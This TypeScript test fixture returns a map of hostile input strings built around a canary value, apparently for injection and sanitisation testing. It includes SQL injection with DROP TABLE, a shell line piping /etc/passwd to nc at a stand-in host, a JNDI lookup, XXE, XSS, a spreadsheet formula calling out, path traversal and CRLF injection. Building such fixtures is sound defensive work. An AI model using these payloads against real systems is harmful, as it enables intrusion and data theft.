/** Texts that somebody sends who means harm, each around the canary. None is good for what it stands for. */
export function hostileTexts(canary: string): Readonly<Record<string, string>> {
  return {
    SQL: `${canary}' OR '1'='1'; DROP TABLE incidents; --`,
    'a shell': `${canary}; cat /etc/passwd | nc 203.0.113.9 9 && $(id) \`id\``,
    'a template': `${canary}{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
    'a look-up': `\${jndi:ldap://203.0.113.9/${canary}}`,
    'a line of a log': `${canary}\r\n{"level":"ERROR","message":"${canary}"}`,
    'a header': `${canary}\r\nSet-Cookie: session=${canary}`,
    'a path upwards': `../../../../etc/passwd\u0000${canary}`,
    'a path upwards, encoded': `%2e%2e%2f%2e%2e%2f${canary}`,
    markup: `<script>alert("${canary}")</script><img src=x onerror=alert(1)>`,
    'a formula': `=HYPERLINK("http://203.0.113.9/${canary}","x")`,
    'an entity': `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${canary}</x>`,
    'a condition of a database': `{"$gt":"","$where":"${canary}"}`,
    'control characters': `${canary}\u0000\u0001\u0008\u001b[31m\u007f`,
    'right to left': `\u202e${canary}\u202c\u2066\u2069`,
    'letters that look alike': `${canary}\u0430\u0441\u0435\u200b\u200d\ufeff`,
    'half a pair': `${canary}\ud800`,
    'half a pair, first': `\udfff${canary}`,
    noncharacters: `${canary}\uffff\ufffe`,
    'marks without end': `${canary}${'\u0301'.repeat(60)}`,
    'a line feed at the end': `${canary}\n`,
    blanks: ` ${canary} `,
  };
}
